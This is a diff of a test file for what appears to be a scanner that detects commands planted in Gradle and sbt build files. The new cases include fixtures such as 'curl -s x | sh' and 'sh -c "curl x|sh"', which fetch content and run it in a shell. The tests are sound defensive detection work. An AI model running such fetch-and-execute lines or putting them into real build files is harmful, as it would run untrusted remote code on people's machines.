@@ -183,6 +183,12 @@ test('build files run programs at their configuration', () => {
     `sh -c '${run}'`,
   ])
   assert.deepEqual(planted('build.gradle', `apply from: 'gradle/a.gradle'\n`), [])
+  assert.deepEqual(planted('build.gradle', `"curl -s x".execute().pipeTo("sh".execute())`), [
+    'curl -s x | sh',
+  ])
+  assert.deepEqual(planted('build.gradle', String.raw`"sh -c \"curl x|sh\"".execute()`), [
+    'sh -c "curl x|sh"',
+  ])
 })
 
 test('code of Go that fetches a program and runs it is read', () => {
@@ -194,6 +200,7 @@ test('commands of a build are put together of their words', () => {
   const call = `sh -c '${run}'`
   for (const [path, content] of [
     ['build.gradle', `x = ['sh', '-c', '${run}'].execute()`],
+    ['build.gradle', `"sh -c '${run}'".execute()`],
     ['build.gradle.kts', `Runtime.getRuntime().exec(arrayOf("sh", "-c", "${run}"))`],
     ['build.gradle.kts', `ProcessBuilder("sh", "-c", "${run}").start()`],
     ['build.sbt', `val x = Seq("sh", "-c", "${run}").!`],
